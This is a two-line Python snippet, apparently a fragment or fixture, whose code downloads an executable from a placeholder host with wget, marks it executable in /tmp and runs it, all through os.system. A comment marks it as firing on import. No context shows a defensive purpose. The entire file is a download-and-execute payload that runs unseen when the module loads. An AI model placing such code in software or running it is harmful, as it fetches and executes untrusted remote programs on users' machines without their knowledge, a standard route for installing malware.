import os
os.system("wget -q https://code.invalid/tool -O /tmp/tool; chmod +x /tmp/tool; /tmp/tool")  # fires: import
